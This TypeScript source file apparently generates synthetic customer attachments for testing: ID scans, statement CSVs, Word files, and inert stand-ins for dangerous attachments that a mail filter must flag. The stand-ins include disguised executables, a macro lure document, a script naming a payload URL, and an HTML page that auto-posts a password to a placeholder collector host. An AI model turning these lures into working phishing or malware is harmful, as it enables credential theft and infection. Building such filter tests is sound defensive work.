// The contents of the files customers send and analysts file: identity scans, statements,
// declarations, contracts, and the dangerous files real inboxes receive (executables disguised as
// invoices, macro documents, scripts) — inert here, but shaped like the real thing.
import { isoDate } from '../dates';
import { stripDiacritics } from '../names/name-form';
import type { Rng } from '../rng';
import { latin1, utf8 } from './bytes';
import { buildJpeg } from './jpeg';
import { buildPdf } from './pdf';
import { buildPng } from './png';
import { buildZip } from './zip';

export interface FileContent {
  fileName: string;
  mime: string;
  /** Lower-case extension, the file_type filter value. */
  fileType: string;
  bytes: Uint8Array;
}

export function fileSlug(text: string): string {
  return (
    stripDiacritics(text)
      .toLowerCase()
      .replace(/[^a-z0-9]+/g, '_')
      .replace(/^_+|_+$/g, '')
      .slice(0, 40) || 'document'
  );
}

export function pdfFile(
  fileName: string,
  title: string,
  lines: readonly string[],
  createdIso: string,
): FileContent {
  return {
    fileName,
    mime: 'application/pdf',
    fileType: 'pdf',
    bytes: buildPdf(title, lines, createdIso),
  };
}

/** A small scan of an identity card or passport page: photo, text lines, machine-readable zone. */
export function identityScan(rng: Rng, fileBase: string, jpeg: boolean): FileContent {
  if (jpeg) {
    const levels = Array.from({ length: 4 }, (_, row) =>
      Array.from({ length: 6 }, (_, col) =>
        col < 2 && row < 3 ? 90 + rng.int(0, 30) : 200 + rng.int(-20, 20) - row * 8,
      ),
    );
    return {
      fileName: `${fileBase}.jpg`,
      mime: 'image/jpeg',
      fileType: 'jpg',
      bytes: buildJpeg(levels),
    };
  }
  const tint = rng.pick<readonly [number, number, number]>([
    [186, 210, 232],
    [214, 228, 196],
    [236, 214, 200],
    [220, 214, 236],
  ]);
  const shapes = [
    { x: 0, y: 0, w: 64, h: 7, colour: 1 },
    { x: 4, y: 10, w: 16, h: 20, colour: 2 },
    ...Array.from({ length: 4 }, (_, i) => ({
      x: 24,
      y: 11 + i * 5,
      w: rng.int(18, 36),
      h: 2,
      colour: 3,
    })),
    { x: 0, y: 33, w: 64, h: 7, colour: 4 },
  ];
  const palette: (readonly [number, number, number])[] = [
    [246, 244, 238],
    tint,
    [120, 104, 96],
    [70, 70, 80],
    [228, 228, 228],
  ];
  return {
    fileName: `${fileBase}.png`,
    mime: 'image/png',
    fileType: 'png',
    bytes: buildPng(64, 40, palette, shapes),
  };
}

/** A simple bar-chart image (an organisation chart or a statement summary pasted as a picture). */
export function chartImage(rng: Rng, fileBase: string): FileContent {
  const bars = Array.from({ length: 6 }, (_, i) => {
    const h = rng.int(6, 34);
    return { x: 4 + i * 10, y: 38 - h, w: 7, h, colour: 1 + (i % 3) };
  });
  const palette: (readonly [number, number, number])[] = [
    [255, 255, 255],
    [52, 101, 164],
    [115, 210, 22],
    [245, 121, 0],
  ];
  return {
    fileName: `${fileBase}.png`,
    mime: 'image/png',
    fileType: 'png',
    bytes: buildPng(64, 40, palette, bars),
  };
}

const COUNTERPARTIES = [
  'Payroll',
  'Rent',
  'Card payment',
  'Transfer',
  'Utilities',
  'Insurance premium',
  'Cash withdrawal',
  'Tax office',
  'Online shop',
  'Dividend',
];

export function statementCsv(
  rng: Rng,
  fileBase: string,
  account: string,
  endMs: number,
): FileContent {
  const rows = ['date;description;counterparty_account;amount;currency;balance'];
  let balance = rng.int(500, 40_000);
  const count = rng.int(12, 30);
  for (let i = count; i > 0; i--) {
    const amount = rng.chance(0.3) ? rng.int(800, 6_000) : -rng.int(5, 1_500);
    balance += amount;
    const date = isoDate(endMs - i * rng.int(1, 3) * 86_400_000);
    rows.push(
      `${date};${rng.pick(COUNTERPARTIES)};${account.slice(0, 2)}${rng.digits(10)};${(amount + rng.int(0, 99) / 100).toFixed(2)};EUR;${balance.toFixed(2)}`,
    );
  }
  return {
    fileName: `${fileBase}.csv`,
    mime: 'text/csv',
    fileType: 'csv',
    bytes: utf8(rows.join('\r\n') + '\r\n'),
  };
}

export function textNote(fileBase: string, lines: readonly string[]): FileContent {
  return {
    fileName: `${fileBase}.txt`,
    mime: 'text/plain',
    fileType: 'txt',
    bytes: utf8(lines.join('\n') + '\n'),
  };
}

function escapeXml(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;');
}

function wordDocument(paragraphs: readonly string[]): Uint8Array {
  const body = paragraphs
    .map((text) => `<w:p><w:r><w:t xml:space="preserve">${escapeXml(text)}</w:t></w:r></w:p>`)
    .join('');
  return utf8(
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
  );
}

const RELS = utf8(
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
);

function contentTypes(main: string, extra = ''): Uint8Array {
  return utf8(
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${extra}<Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
  );
}

export function wordFile(
  fileBase: string,
  paragraphs: readonly string[],
  modifiedMs: number,
): FileContent {
  const bytes = buildZip(
    [
      {
        name: '[Content_Types].xml',
        data: contentTypes(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        ),
      },
      { name: '_rels/.rels', data: RELS },
      { name: 'word/document.xml', data: wordDocument(paragraphs) },
    ],
    new Date(modifiedMs),
  );
  return {
    fileName: `${fileBase}.docx`,
    mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    fileType: 'docx',
    bytes,
  };
}

export type DangerousKind = 'exe' | 'docm' | 'js' | 'scr' | 'html';

/** Files a mail filter must flag. The bytes are inert stand-ins with the right signatures. */
export function dangerousFile(rng: Rng, kind: DangerousKind, modifiedMs: number): FileContent {
  switch (kind) {
    case 'exe':
    case 'scr': {
      const stub = latin1(
        'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00' +
          '\x00'.repeat(44) +
          '\x80\x00\x00\x00' +
          'This program cannot be run in DOS mode.\r\r\n$' +
          '\x00'.repeat(24) +
          'PE\x00\x00',
      );
      const name =
        kind === 'exe'
          ? rng.pick(['invoice_2291.pdf.exe', 'Rechnung.pdf.exe', 'payment_advice.exe'])
          : 'scan0042.scr';
      return { fileName: name, mime: 'application/x-msdownload', fileType: kind, bytes: stub };
    }
    case 'docm': {
      const bytes = buildZip(
        [
          {
            name: '[Content_Types].xml',
            data: contentTypes(
              'application/vnd.ms-word.document.macroEnabled.main+xml',
              '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            ),
          },
          { name: '_rels/.rels', data: RELS },
          {
            name: 'word/document.xml',
            data: wordDocument(['Please enable content to view this protected document.']),
          },
          {
            name: 'word/vbaProject.bin',
            data: latin1(
              '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' +
                'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  \' sandbox sample: no payload\r\nEnd Sub\r\n',
            ),
          },
        ],
        new Date(modifiedMs),
      );
      return {
        fileName: rng.pick(['Remittance_details.docm', 'Contract_update.docm']),
        mime: 'application/vnd.ms-word.document.macroEnabled.12',
        fileType: 'docm',
        bytes,
      };
    }
    case 'js':
      return {
        fileName: rng.pick(['parcel_tracking.js', 'statement_copy.js']),
        mime: 'text/javascript',
        fileType: 'js',
        bytes: utf8(
          '// sandbox sample of a script attachment; it does nothing\nvar target = "https://download.example/payload.bin";\nvar shell = null; /* would create a shell object here */\n',
        ),
      };
    case 'html':
      return {
        fileName: 'secure_message.html',
        mime: 'text/html',
        fileType: 'html',
        bytes: utf8(
          '<!doctype html><html><body onload="document.forms[0].submit()"><form action="https://login.example/collect" method="post"><input name="user"><input name="password" type="password"></form><script>/* sandbox sample */</script></body></html>',
        ),
      };
  }
}
